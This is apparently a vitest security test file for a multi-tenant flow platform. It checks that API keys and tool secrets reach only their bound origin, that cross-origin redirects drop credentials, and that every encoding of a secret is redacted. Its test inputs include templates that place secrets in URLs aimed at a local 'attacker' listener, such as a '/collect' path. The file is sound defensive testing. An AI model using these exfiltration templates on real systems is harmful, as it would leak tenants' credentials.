import { randomBytes } from 'node:crypto'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { completionReply } from '@troupe/plugin-llm-openai/testing'
import { tenantMigrations } from '../../migrations/index.js'
import { migrateSchema } from '../../src/db/migrate.js'
import { startExternalMcpServer, type ExternalMcpServer } from '../external-mcp-server.js'
import { flowBody, node, waitForExecution } from '../flows-graph.js'
import { signupTenant, type TestTenant, type TestUser } from '../tenants.js'
import { startTestServer, type TestServer } from '../test-server.js'
import { created, expectFreeOf, openEventStream } from './hostile.js'

/**
 * Secret custody: the operator's key stays with the operator's endpoint, every stored secret goes
 * only to the origin it was saved for (whatever a tenant edits, templates or redirects), and
 * whatever comes back is scrubbed of every encoding of it. Two local servers stand in for the
 * world: `service` (the legitimate API, model server and operator endpoint) and `attacker` (a
 * listener on another origin that must never see a credential).
 */

const operatorKey = `sk-OPERATOR-${randomBytes(8).toString('hex')}`
const tenantKey = `sk-TENANT-${randomBytes(8).toString('hex')}`
const toolToken = `tok-TOOL-${randomBytes(8).toString('hex')}`
const toolKey = `key-TOOL-${randomBytes(8).toString('hex')}`
const mcpKey = `mcp-KEY-${randomBytes(8).toString('hex')}`
/** A secret with every character an encoding changes: quotes, a backslash, a space, `+`, `/` and non-ASCII. */
const oddSecret = `tok "q" \\ +/ é-${randomBytes(8).toString('hex')}`

/** Every form of a secret the platform or an echoing server may write it in. */
function encodings(secret: string): Record<string, string> {
  const json = JSON.stringify(secret).slice(1, -1)
  return {
    plain: secret,
    percent: encodeURIComponent(secret),
    percentLowerCase: encodeURIComponent(secret).replace(/%[0-9A-F]{2}/g, (hex) => hex.toLowerCase()),
    form: new URLSearchParams({ s: secret }).toString().slice(2),
    base64: Buffer.from(secret).toString('base64'),
    base64url: Buffer.from(secret).toString('base64url'),
    basicAuth: Buffer.from(`someone:${secret}`).toString('base64'),
    json,
    jsonAscii: json.replace(/[\u007f-\uffff]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)
  }
}

/**
 * What a reader sees, as text: the JSON as sent, and every string inside it decoded (JSON text
 * escapes quotes and backslashes, so a plain secret could hide in it), SSE frames and JSON log
 * lines included.
 */
function readable(value: unknown): string {
  const strings: string[] = []
  const walk = (item: unknown) => {
    if (typeof item === 'string') {
      strings.push(item)
      for (const line of item.split('\n')) {
        const json = line.replace(/^data: /, '')
        if (!json.startsWith('{') && !json.startsWith('[')) continue
        try {
          walk(JSON.parse(json))
        } catch {
          // not JSON: the text itself is checked
        }
      }
    } else if (Array.isArray(item)) item.forEach(walk)
    else if (item && typeof item === 'object') {
      for (const [key, inner] of Object.entries(item)) {
        strings.push(key)
        walk(inner)
      }
    }
  }
  walk(value)
  return [JSON.stringify(value), ...strings].join('\n')
}

interface Seen {
  at: 'service' | 'attacker'
  path: string
  headers: IncomingHttpHeaders
  body: string
}
const seen: Seen[] = []
const logLines: string[] = []

let server: TestServer
let service: Server
let serviceUrl: string
let attacker: Server
let attackerUrl: string
let mcp: ExternalMcpServer
let a: TestTenant
let member: TestUser
let viewer: TestUser

const listen = async (http: Server) => {
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(http.address() as AddressInfo).port}`
}

const readBody = async (request: NodeJS.ReadableStream) => {
  const chunks: Buffer[] = []
  for await (const chunk of request) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks).toString('utf8')
}

const bearer = (headers: IncomingHttpHeaders) => String(headers.authorization ?? '').replace(/^Bearer /, '')

/** Every request that carried `secret` in any header, anywhere. */
const carrying = (secret: string) => seen.filter((request) => JSON.stringify(request.headers).includes(JSON.stringify(secret).slice(1, -1)))
const attackerSaw = () => seen.filter((request) => request.at === 'attacker')

beforeAll(async () => {
  attacker = createServer(async (request, response) => {
    seen.push({ at: 'attacker', path: request.url ?? '', headers: request.headers, body: await readBody(request) })
    const reply = request.url?.endsWith('/chat/completions') ? completionReply({ content: 'stolen?' }) : { json: { ok: true } }
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify((reply as { json: unknown }).json))
  })
  attackerUrl = await listen(attacker)
  service = createServer(async (request, response) => {
    seen.push({ at: 'service', path: request.url ?? '', headers: request.headers, body: await readBody(request) })
    const url = new URL(request.url ?? '/', 'http://service')
    const json = (status: number, value: unknown) => response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value))
    if (url.pathname.startsWith('/moved/')) return void response.writeHead(307, { location: request.url!.slice('/moved'.length) }).end()
    if (url.pathname.startsWith('/away/')) return void response.writeHead(307, { location: `${attackerUrl}${request.url!.slice('/away'.length)}` }).end()
    if (url.pathname === '/v1/chat/completions') return void json(200, (completionReply({ content: 'served' }) as { json: unknown }).json)
    if (url.pathname === '/quoting/v1/chat/completions') {
      return void json(401, { error: { message: `Incorrect API key provided: ${Object.values(encodings(bearer(request.headers))).join(' | ')}`, type: 'invalid_request_error' } })
    }
    if (url.pathname === '/echo') return void json(200, { authorization: request.headers.authorization ?? null, key: request.headers['x-api-key'] ?? null })
    if (url.pathname === '/encodings') {
      const forms = encodings(bearer(request.headers))
      const status = url.searchParams.has('fail') ? 500 : 200
      if (url.searchParams.has('json')) return void json(status, forms)
      return void response.writeHead(status, { 'content-type': 'text/plain' }).end(Object.entries(forms).map(([name, form]) => `${name}=${form}`).join('\n'))
    }
    json(404, { error: 'no such path' })
  })
  serviceUrl = await listen(service)
  mcp = await startExternalMcpServer(mcpKey)
  // Loopback is open so that tenants reach the local stand-ins: what is tested here is where credentials go, not the address policy.
  server = await startTestServer({ TROUPE_ALLOW_LOOPBACK: 'true', OPENAI_BASE_URL: `${serviceUrl}/v1`, OPENAI_API_KEY: operatorKey }, { logLines })
  a = await signupTenant(server.url, 'Custody')
  ;[member, viewer] = await Promise.all([a.addUser('member'), a.addUser('viewer')])
})
afterAll(async () => {
  await server?.close()
  await mcp?.close()
  for (const http of [service, attacker]) {
    http?.closeAllConnections()
    await new Promise((resolve) => http?.close(resolve))
  }
})

const unique = () => randomBytes(3).toString('hex')
const seededProvider = async (tenant: TestTenant) => {
  const { body } = await tenant.admin.http.get('/llm-providers?$limit=100')
  return (body.data as Array<Record<string, any>>).find((provider) => provider.name === 'OpenAI (server default)')!
}

describe("the operator's key", () => {
  it('is referred to, not copied: the seeded provider uses it for the operator endpoint only', async () => {
    const seeded = await seededProvider(a)
    expect(seeded).toMatchObject({ credentialSource: 'operator', hasApiKey: true, baseUrl: `${serviceUrl}/v1`, apiKeyOrigin: null })
    const knex = server.app.get('knex')
    const schema = (await knex('tenants').where({ id: a.id }).first()).schemaName
    expect((await knex('llm_providers').withSchema(schema).where({ id: seeded.id }).first()).apiKeyCiphertext).toBeNull()
    const run = await a.admin.http.post(`/llm-providers/${seeded.id}/test`, { prompt: 'hi' })
    expect(run.body).toMatchObject({ ok: true, text: 'served' })
    expect(seen.filter((request) => request.at === 'service' && request.path === '/v1/chat/completions').map((request) => request.headers.authorization)).toContain(`Bearer ${operatorKey}`)
  })

  it.each([
    ['a listener of its own', () => `${attackerUrl}/v1`],
    ['another path of the same server', () => `${serviceUrl}/other/v1`],
    ['a path that only starts like the operator path', () => `${serviceUrl}/v1x`],
    ['the same server under another host name', () => serviceUrl.replace('127.0.0.1', 'localhost') + '/v1']
  ])('is lost by a self-registered admin who points the provider at %s, and never sent there', async (_case, baseUrl) => {
    const tenant = await signupTenant(server.url)
    const seeded = await seededProvider(tenant)
    const patched = await tenant.admin.http.patch(`/llm-providers/${seeded.id}`, { baseUrl: baseUrl() })
    expect(patched.status, JSON.stringify(patched.body)).toBe(200)
    expect(patched.body).toMatchObject({ hasApiKey: false, credentialSource: 'tenant', apiKeyOrigin: null })
    await tenant.admin.http.post(`/llm-providers/${seeded.id}/test`, { prompt: 'hi' })
    // Pointing it back does not bring the key back: the admin must set one.
    const back = await tenant.admin.http.patch(`/llm-providers/${seeded.id}`, { baseUrl: `${serviceUrl}/v1` })
    expect(back.body).toMatchObject({ hasApiKey: false, credentialSource: 'tenant' })
    await tenant.admin.http.post(`/llm-providers/${seeded.id}/test`, { prompt: 'hi' })
    for (const request of carrying(operatorKey)) {
      expect(request.at).toBe('service')
      expect(request.path).toBe('/v1/chat/completions')
      expect(request.headers.host).toBe(new URL(serviceUrl).host)
    }
  })

  it("is lost by a provider that changes kind: the operator's key belongs to its own kind's endpoint", async () => {
    const tenant = await signupTenant(server.url)
    const seeded = await seededProvider(tenant)
    const scripted = await tenant.admin.http.patch(`/llm-providers/${seeded.id}`, { kind: 'scripted', baseUrl: null })
    expect(scripted.status, JSON.stringify(scripted.body)).toBe(200)
    expect(scripted.body).toMatchObject({ kind: 'scripted', hasApiKey: false, credentialSource: 'tenant' })
    const back = await tenant.admin.http.patch(`/llm-providers/${seeded.id}`, { kind: 'openai', baseUrl: `${serviceUrl}/v1` })
    expect(back.body).toMatchObject({ kind: 'openai', hasApiKey: false, credentialSource: 'tenant' })
    const before = seen.length
    await tenant.admin.http.post(`/llm-providers/${seeded.id}/test`, { prompt: 'hi' })
    expect(seen.slice(before).map((request) => request.headers.authorization)).not.toContain(`Bearer ${operatorKey}`)
  })

  it('cannot be claimed: the credential source is not writable, and a provider made for the operator endpoint has no key', async () => {
    const tenant = await signupTenant(server.url)
    const claim = await tenant.admin.http.post('/llm-providers', { name: 'mine', kind: 'openai', baseUrl: `${serviceUrl}/v1`, credentialSource: 'operator' })
    expect(claim.status).toBe(400)
    const seeded = await seededProvider(tenant)
    expect((await tenant.admin.http.patch(`/llm-providers/${seeded.id}`, { credentialSource: 'operator', apiKeyOrigin: attackerUrl })).status).toBe(400)
    const own = await created(tenant.admin, '/llm-providers', { name: 'at the operator endpoint', kind: 'openai', baseUrl: `${serviceUrl}/v1`, priority: 1 })
    expect(own).toMatchObject({ hasApiKey: false, credentialSource: 'tenant' })
    const before = seen.length
    expect((await tenant.admin.http.post(`/llm-providers/${own.id}/test`, { prompt: 'hi' })).body.ok).toBe(true)
    expect(seen.slice(before).map((request) => request.headers.authorization)).toEqual(['Bearer not-needed'])
  })
})

describe('keys and secrets are bound to the origin they were saved for', () => {
  it("a provider's key is dropped when baseUrl moves to another origin, kept when only the path changes, and bound anew when sent with the move", async () => {
    const provider = await created(a.admin, '/llm-providers', { name: `own ${unique()}`, kind: 'openai', baseUrl: `${serviceUrl}/v1`, apiKey: tenantKey, priority: 90 })
    expect(provider).toMatchObject({ hasApiKey: true, apiKeyOrigin: serviceUrl, credentialSource: 'tenant' })
    const samePlace = await a.admin.http.patch(`/llm-providers/${provider.id}`, { baseUrl: `${serviceUrl}/moved/v1` })
    expect(samePlace.body).toMatchObject({ hasApiKey: true, apiKeyOrigin: serviceUrl })
    const moved = await a.admin.http.patch(`/llm-providers/${provider.id}`, { baseUrl: `${attackerUrl}/v1` })
    expect(moved.body).toMatchObject({ hasApiKey: false, apiKeyOrigin: null })
    await a.admin.http.post(`/llm-providers/${provider.id}/test`, { prompt: 'hi' })
    expect(attackerSaw().map((request) => request.headers.authorization)).not.toContain(`Bearer ${tenantKey}`)
    const rebound = await a.admin.http.patch(`/llm-providers/${provider.id}`, { baseUrl: `${serviceUrl}/v1`, apiKey: tenantKey })
    expect(rebound.body).toMatchObject({ hasApiKey: true, apiKeyOrigin: serviceUrl })
    expect((await a.admin.http.post(`/llm-providers/${provider.id}/test`, { prompt: 'hi' })).body).toMatchObject({ ok: true })
    expect(carrying(tenantKey).every((request) => request.at === 'service')).toBe(true)
  })

  const placements: Array<[string, string, { url: () => string; body?: unknown; headers?: Record<string, string> }]> = [
    ['in the URL query', 'http.url', { url: () => `${attackerUrl}/?t={{ secrets.token }}` }],
    ['in the URL query, bracket form', 'http.url', { url: () => `${attackerUrl}/?t={{ secrets["token"] }}` }],
    ['in the URL path', 'http.url', { url: () => `${serviceUrl}/echo/{{ secrets.token }}` }],
    ['in the URL, all at once', 'http.url', { url: () => `${serviceUrl}/echo?all={{ secrets }}` }],
    ['in the body', 'http.body.leak', { url: () => `${serviceUrl}/echo`, body: { leak: '{{ secrets.token }}' } }],
    ['in a header, all at once', 'http.headers.X-All', { url: () => `${serviceUrl}/echo`, headers: { 'X-All': '{{ secrets }}' } }]
  ]
  it.each(placements)('a member cannot place a tool secret %s: 400 naming %s, and nothing changes or is sent', async (_case, field, change) => {
    const tool = await created(a.admin, '/tools', {
      name: `api-${unique()}`,
      kind: 'http',
      http: { method: 'POST', url: `${serviceUrl}/echo`, headers: { Authorization: 'Bearer {{ secrets.token }}' } },
      secrets: { token: toolToken }
    })
    const before = seen.length
    const http = { method: 'POST', url: change.url(), headers: { Authorization: 'Bearer {{ secrets.token }}', ...change.headers }, ...(change.body ? { body: change.body } : {}) }
    const patched = await member.http.patch(`/tools/${tool.id}`, { http })
    expect(patched.status, JSON.stringify(patched.body)).toBe(400)
    expect(patched.body.data).toContainEqual({ field, message: expect.stringMatching(/may only be placed at headers\.\*|must name one secret/) })
    expect((await member.http.get(`/tools/${tool.id}`)).body).toMatchObject({ http: { url: `${serviceUrl}/echo` }, secretNames: ['token'] })
    expect((await member.http.post(`/tools/${tool.id}/test`, { args: {} })).body.ok).toBe(true)
    expect(seen.slice(before).filter((request) => request.at === 'attacker')).toEqual([])
    expect(carrying(toolToken).every((request) => request.at === 'service')).toBe(true)
  })

  it('moving a tool to another origin drops its secrets: a template still using one is refused, naming it, until it is sent again', async () => {
    const tool = await created(a.admin, '/tools', {
      name: `moving-${unique()}`,
      kind: 'http',
      http: { method: 'GET', url: `${serviceUrl}/echo`, headers: { Authorization: 'Bearer {{ secrets.token }}' } },
      secrets: { token: toolToken }
    })
    expect(tool).toMatchObject({ secretNames: ['token'], secretsOrigin: serviceUrl })
    const samePlace = await member.http.patch(`/tools/${tool.id}`, { http: { method: 'GET', url: `${serviceUrl}/moved/echo?x={{ args.x }}`, headers: { Authorization: 'Bearer {{ secrets.token }}' } } })
    expect(samePlace.body).toMatchObject({ secretNames: ['token'], secretsOrigin: serviceUrl })
    const away = await member.http.patch(`/tools/${tool.id}`, { http: { method: 'GET', url: `${attackerUrl}/collect`, headers: { Authorization: 'Bearer {{ secrets.token }}' } } })
    expect(away.status).toBe(400)
    expect(away.body.data).toContainEqual({ field: 'http.headers.Authorization', message: expect.stringMatching(/secret token, which is not set: secrets are bound to the origin they were saved for/) })
    expect((await member.http.get(`/tools/${tool.id}`)).body).toMatchObject({ secretNames: ['token'], secretsOrigin: serviceUrl })
    // Without the template the move is fine, and the secrets are gone.
    const moved = await member.http.patch(`/tools/${tool.id}`, { http: { method: 'GET', url: `${attackerUrl}/collect` } })
    expect(moved.body).toMatchObject({ secretNames: [], secretsOrigin: null })
    await member.http.post(`/tools/${tool.id}/test`, { args: {} })
    // Sent again with the move, they are bound to the new origin.
    const resent = await member.http.patch(`/tools/${tool.id}`, { http: { method: 'GET', url: `${serviceUrl}/echo`, headers: { 'X-Api-Key': '{{ secrets.key }}' } }, secrets: { key: toolKey } })
    expect(resent.body).toMatchObject({ secretNames: ['key'], secretsOrigin: serviceUrl })
    expect(carrying(toolToken).every((request) => request.at === 'service')).toBe(true)
  })

  it('an MCP tool moved to another server drops its secrets the same way', async () => {
    const tool = await created(a.admin, '/tools', { name: `mcp-${unique()}`, kind: 'mcp', mcp: { serverUrl: `${mcp.url}/mcp`, toolName: 'add', headers: { 'x-api-key': '{{ secrets.key }}' } }, secrets: { key: mcpKey } })
    expect(tool).toMatchObject({ secretsOrigin: mcp.url })
    const away = await member.http.patch(`/tools/${tool.id}`, { mcp: { serverUrl: `${attackerUrl}/mcp`, toolName: 'add', headers: { 'x-api-key': '{{ secrets.key }}' } } })
    expect(away.status).toBe(400)
    expect(away.body.data).toContainEqual({ field: 'mcp.headers.x-api-key', message: expect.stringMatching(/secret key, which is not set: secrets are bound/) })
  })

  it.each([
    ['its host', 'http://{{ args.host }}/echo'],
    ['the end of its host name', `${serviceUrl}{{ args.suffix }}`]
  ])('a tool whose URL lets a template choose %s cannot hold secrets', async (_case, url) => {
    const response = await member.http.post('/tools', { name: `templated-${unique()}`, kind: 'http', http: { method: 'GET', url, headers: { Authorization: 'Bearer {{ secrets.token }}' } }, secrets: { token: toolToken } })
    expect(response.status).toBe(400)
    expect(response.body.data).toContainEqual({ field: 'http.url', message: expect.stringMatching(/must start with a fixed origin/) })
  })

  it('at call time a key or secret goes only to its bound origin, even when the stored record says otherwise', async () => {
    const tool = await created(a.admin, '/tools', { name: `bound-${unique()}`, kind: 'http', http: { method: 'GET', url: `${serviceUrl}/echo`, headers: { Authorization: 'Bearer {{ secrets.token }}' } }, secrets: { token: toolToken } })
    const provider = await created(a.admin, '/llm-providers', { name: `bound ${unique()}`, kind: 'openai', baseUrl: `${serviceUrl}/v1`, apiKey: tenantKey, priority: 95 })
    // A write behind the API (a restored backup, a hand-edited row) points both at the attacker.
    const knex = server.app.get('knex')
    const schema = (await knex('tenants').where({ id: a.id }).first()).schemaName
    await knex('tools').withSchema(schema).where({ id: tool.id }).update({ settings: JSON.stringify({ method: 'GET', url: `${attackerUrl}/echo`, headers: { Authorization: 'Bearer {{ secrets.token }}' } }) })
    await knex('llm_providers').withSchema(schema).where({ id: provider.id }).update({ baseUrl: `${attackerUrl}/v1` })
    const before = attackerSaw().length
    expect((await member.http.post(`/tools/${tool.id}/test`, { args: {} })).body).toMatchObject({ ok: false, error: expect.stringMatching(/saved for another destination/) })
    expect((await a.admin.http.post(`/llm-providers/${provider.id}/test`, { prompt: 'hi' })).body).toMatchObject({ ok: false, error: expect.stringMatching(/saved for another endpoint/) })
    expect(attackerSaw().length).toBe(before)
    expect((await a.admin.http.get(`/llm-providers/${provider.id}`)).body.hasApiKey).toBe(false)
  })

  it('a stored tool that places a secret in its URL or body (saved before the rule, or behind the API) fails before sending anything', async () => {
    const tool = await created(a.admin, '/tools', { name: `placed-${unique()}`, kind: 'http', http: { method: 'POST', url: `${serviceUrl}/echo`, headers: { Authorization: 'Bearer {{ secrets.token }}' } }, secrets: { token: toolToken } })
    const knex = server.app.get('knex')
    const schema = (await knex('tenants').where({ id: a.id }).first()).schemaName
    for (const http of [
      { method: 'POST', url: `${serviceUrl}/echo?t={{ secrets.token }}` },
      { method: 'POST', url: `${serviceUrl}/echo`, body: { t: '{{ secrets.token }}' } }
    ]) {
      await knex('tools').withSchema(schema).where({ id: tool.id }).update({ settings: JSON.stringify(http) })
      const before = seen.length
      expect((await member.http.post(`/tools/${tool.id}/test`, { args: {} })).body).toMatchObject({ ok: false, error: expect.stringMatching(/cannot run: http\.(url|body\.t) may not use secrets/) })
      expect(seen.length).toBe(before)
    }
  })
})

describe('redirects to another origin carry no credential; redirects within the origin still work', () => {
  it('an HTTP tool', async () => {
    const headers = { Authorization: 'Bearer {{ secrets.token }}', 'X-Api-Key': '{{ secrets.key }}', 'X-Plain': 'kept' }
    const secrets = { token: toolToken, key: toolKey }
    const within = await created(a.admin, '/tools', { name: `within-${unique()}`, kind: 'http', http: { method: 'POST', url: `${serviceUrl}/moved/echo`, headers, body: { a: 1 } }, secrets })
    const across = await created(a.admin, '/tools', { name: `across-${unique()}`, kind: 'http', http: { method: 'POST', url: `${serviceUrl}/away/landed`, headers, body: { a: 1 } }, secrets })
    const kept = await member.http.post(`/tools/${within.id}/test`, { args: {} })
    expect(kept.body).toMatchObject({ ok: true, result: { body: { authorization: 'Bearer [redacted]', key: '[redacted]' } } })
    const before = attackerSaw().length
    expect((await member.http.post(`/tools/${across.id}/test`, { args: {} })).body.ok).toBe(true)
    const landed = attackerSaw().slice(before)
    expect(landed.map((request) => request.path)).toEqual(['/landed'])
    expect(landed[0].headers).toMatchObject({ 'x-plain': 'kept' })
    expect(landed[0].headers.authorization).toBeUndefined()
    expect(landed[0].headers['x-api-key']).toBeUndefined()
  })

  it('an MCP tool and MCP discovery', async () => {
    const settings = (serverUrl: string) => ({ serverUrl, toolName: 'add', headers: { 'x-api-key': '{{ secrets.key }}' } })
    const inputSchema = { type: 'object', properties: { a: { type: 'number' }, b: { type: 'number' } } }
    const within = await created(a.admin, '/tools', { name: `mcp-within-${unique()}`, kind: 'mcp', inputSchema, mcp: settings(`${mcp.url}/moved/mcp`), secrets: { key: mcpKey } })
    expect((await member.http.post(`/tools/${within.id}/test`, { args: { a: 2, b: 3 } })).body).toMatchObject({ ok: true, result: { sum: 5 } })
    const discovered = await member.http.post('/mcp-discovery', { serverUrl: `${mcp.url}/moved/mcp`, headers: { 'x-api-key': mcpKey } })
    expect(discovered.status, JSON.stringify(discovered.body)).toBe(201)

    const before = attackerSaw().length
    const across = await created(a.admin, '/tools', { name: `mcp-across-${unique()}`, kind: 'mcp', inputSchema, mcp: settings(`${serviceUrl}/away/mcp`), secrets: { key: mcpKey } })
    expect((await member.http.post(`/tools/${across.id}/test`, { args: { a: 2, b: 3 } })).body.ok).toBe(false)
    const discovery = await member.http.post('/mcp-discovery', { serverUrl: `${serviceUrl}/away/mcp`, headers: { 'x-api-key': mcpKey, authorization: `Bearer ${mcpKey}` } })
    expect(discovery.status).toBe(400)
    expect(JSON.stringify(discovery.body)).not.toContain(mcpKey)
    const landed = attackerSaw().slice(before)
    expect(landed.length).toBeGreaterThanOrEqual(2)
    for (const request of landed) {
      expect(request.path).toBe('/mcp')
      expect(request.headers['x-api-key']).toBeUndefined()
      expect(request.headers.authorization).toBeUndefined()
    }
  })

  it('an OpenAI-compatible provider, through its test and through a flow', async () => {
    const within = await created(a.admin, '/llm-providers', { name: `within ${unique()}`, kind: 'openai', baseUrl: `${serviceUrl}/moved/v1`, apiKey: tenantKey, priority: 96 })
    const before = seen.length
    expect((await a.admin.http.post(`/llm-providers/${within.id}/test`, { prompt: 'hi' })).body).toMatchObject({ ok: true, text: 'served' })
    expect(seen.slice(before).map((request) => [request.path, request.headers.authorization])).toEqual([
      ['/moved/v1/chat/completions', `Bearer ${tenantKey}`],
      ['/v1/chat/completions', `Bearer ${tenantKey}`]
    ])

    const across = await created(a.admin, '/llm-providers', { name: `across ${unique()}`, kind: 'openai', baseUrl: `${serviceUrl}/away/v1`, apiKey: tenantKey, priority: 97 })
    const attackerBefore = attackerSaw().length
    await a.admin.http.post(`/llm-providers/${across.id}/test`, { prompt: 'hi' })
    const flow = await created(a.admin, '/flows', flowBody(`via ${unique()}`, [node('in', 'trigger.manual'), node('ask', 'llm.prompt', { prompt: 'hi', providerId: across.id }), node('out', 'flow.output')], [['in', 'ask'], ['ask', 'out']]))
    await waitForExecution(a.admin.http.get, (await created(member, '/executions', { flowId: flow.id, input: {} })).id)
    const landed = attackerSaw().slice(attackerBefore)
    expect(landed.map((request) => request.path)).toEqual(['/v1/chat/completions', '/v1/chat/completions'])
    for (const request of landed) expect(request.headers.authorization).toBeUndefined()
  })
})

describe('redaction covers every encoding', () => {
  it('of a tool secret echoed back, in results and errors, in the events and stream a viewer reads, and in the logs', async () => {
    const headers = { Authorization: 'Bearer {{ secrets.token }}' }
    const tools = await Promise.all(
      ['/encodings', '/encodings?json', '/encodings?fail'].map((path) =>
        created(a.admin, '/tools', { name: `echo-${unique()}`, kind: 'http', http: { method: 'GET', url: `${serviceUrl}${path}`, headers }, secrets: { token: oddSecret } })
      )
    )
    const answers: unknown[] = []
    for (const tool of tools) answers.push((await member.http.post(`/tools/${tool.id}/test`, { args: {} })).body)
    // The server really echoed every form (so the checks below can fail).
    const echoed = seen.filter((request) => request.path.startsWith('/encodings'))
    expect(echoed.map((request) => request.headers.authorization)).toContain(`Bearer ${oddSecret}`)
    expect(JSON.stringify(answers)).toContain('[redacted]')

    for (const tool of tools) {
      const flow = await created(a.admin, '/flows', flowBody(`echo ${unique()}`, [node('in', 'trigger.manual'), node('call', 'tool.call', { toolId: tool.id, args: {} }), node('out', 'flow.output')], [['in', 'call'], ['call', 'out']]))
      const run = await created(member, '/executions', { flowId: flow.id, input: {} })
      await waitForExecution(a.admin.http.get, run.id)
      answers.push((await viewer.http.get(`/executions/${run.id}`)).body)
      answers.push((await viewer.http.get(`/execution-events?executionId=${run.id}&$limit=1000`)).body)
      answers.push((await openEventStream(server.url, run.id, viewer.accessToken)).text)
    }
    const text = readable(answers)
    expect(text).toMatch(/"status":"succeeded"/)
    expect(text).toMatch(/HTTP 500/)
    expectFreeOf(text, encodings(oddSecret), 'tool results, errors, events and the stream')
    expectFreeOf(readable(logLines), encodings(oddSecret), 'the logs')
  })

  it('of a provider key an endpoint quotes in its refusal, in the test answer, the events and the logs', async () => {
    const provider = await created(a.admin, '/llm-providers', { name: `quoting ${unique()}`, kind: 'openai', baseUrl: `${serviceUrl}/quoting/v1`, apiKey: oddSecret, priority: 98 })
    const answers: unknown[] = [(await a.admin.http.post(`/llm-providers/${provider.id}/test`, { prompt: 'hi' })).body]
    expect(seen.some((request) => request.path === '/quoting/v1/chat/completions' && request.headers.authorization === `Bearer ${oddSecret}`)).toBe(true)
    const flow = await created(a.admin, '/flows', flowBody(`quoting ${unique()}`, [node('in', 'trigger.manual'), node('ask', 'llm.prompt', { prompt: 'hi', providerId: provider.id }), node('out', 'flow.output')], [['in', 'ask'], ['ask', 'out']]))
    const run = await created(member, '/executions', { flowId: flow.id, input: {} })
    const done = await waitForExecution(a.admin.http.get, run.id)
    expect(done.status).toBe('failed')
    answers.push(done, (await viewer.http.get(`/execution-events?executionId=${run.id}&$limit=1000`)).body, (await openEventStream(server.url, run.id, viewer.accessToken)).text)
    const text = readable(answers)
    expect(text).toMatch(/Incorrect API key provided: \[redacted\]/)
    expectFreeOf(text, encodings(oddSecret), 'provider errors and events')
    expectFreeOf(readable(logLines), encodings(oddSecret), 'the logs')
  })
})

describe('migration 0009-secret-destinations', () => {
  it('turns the copied operator key into a reference, binds the other secrets to their origin, and drops what has none', async () => {
    const knex = server.app.get('knex')
    const schema = `tenant_legacy_${randomBytes(4).toString('hex')}`
    const upTo = tenantMigrations.findIndex((migration) => migration.name === '0009-secret-destinations')
    expect(upTo).toBeGreaterThan(0)
    try {
      await migrateSchema(knex, schema, tenantMigrations.slice(0, upTo))
      const id = (n: number) => `00000000-0000-4000-8000-00000000000${n}`
      await knex('llm_providers').withSchema(schema).insert([
        { id: id(1), name: 'OpenAI (server default)', kind: 'openai', baseUrl: `${attackerUrl}/v1`, apiKeyCiphertext: 'v1:copy-of-the-operator-key', priority: 10 },
        { id: id(2), name: 'Own', kind: 'openai', baseUrl: 'https://models.example.com/v1', apiKeyCiphertext: 'v1:own', priority: 20 },
        { id: id(3), name: 'Default endpoint', kind: 'openai', baseUrl: null, apiKeyCiphertext: 'v1:own', priority: 30 },
        { id: id(4), name: 'Keyless', kind: 'openai', baseUrl: 'http://localhost:11434/v1', priority: 40 }
      ])
      const tool = (n: number, kind: string, settings: Record<string, unknown>, secrets: Record<string, string>) => ({
        id: id(n),
        name: `t${n}`,
        kind,
        inputSchema: JSON.stringify({ type: 'object' }),
        [kind]: JSON.stringify(settings),
        secretsCiphertext: JSON.stringify(secrets)
      })
      await knex('tools').withSchema(schema).insert(tool(5, 'http', { method: 'GET', url: 'https://api.example.com/x?q={{ args.q }}' }, { token: 'v1:x' }))
      await knex('tools').withSchema(schema).insert(tool(6, 'http', { method: 'GET', url: 'https://{{ args.host }}/x' }, { token: 'v1:x' }))
      await knex('tools').withSchema(schema).insert(tool(7, 'mcp', { serverUrl: 'https://mcp.example.com:8443/mcp', toolName: 'x' }, { key: 'v1:x' }))
      await knex('tools').withSchema(schema).insert(tool(8, 'http', { method: 'GET', url: 'https://api.example.com/' }, {}))

      expect(await migrateSchema(knex, schema, tenantMigrations)).toContain('0009-secret-destinations')
      const providers = await knex('llm_providers').withSchema(schema).orderBy('priority').select('name', 'credentialSource', 'apiKeyCiphertext', 'apiKeyOrigin')
      expect(providers).toEqual([
        { name: 'OpenAI (server default)', credentialSource: 'operator', apiKeyCiphertext: null, apiKeyOrigin: null },
        { name: 'Own', credentialSource: 'tenant', apiKeyCiphertext: 'v1:own', apiKeyOrigin: 'https://models.example.com' },
        { name: 'Default endpoint', credentialSource: 'tenant', apiKeyCiphertext: 'v1:own', apiKeyOrigin: null },
        { name: 'Keyless', credentialSource: 'tenant', apiKeyCiphertext: null, apiKeyOrigin: null }
      ])
      const tools = await knex('tools').withSchema(schema).orderBy('name').select('name', 'secretsCiphertext', 'secretsOrigin')
      expect(tools).toEqual([
        { name: 't5', secretsCiphertext: { token: 'v1:x' }, secretsOrigin: 'https://api.example.com' },
        { name: 't6', secretsCiphertext: {}, secretsOrigin: null },
        { name: 't7', secretsCiphertext: { key: 'v1:x' }, secretsOrigin: 'https://mcp.example.com:8443' },
        { name: 't8', secretsCiphertext: {}, secretsOrigin: null }
      ])
    } finally {
      await knex.raw('drop schema if exists ?? cascade', [schema])
    }
  })
})
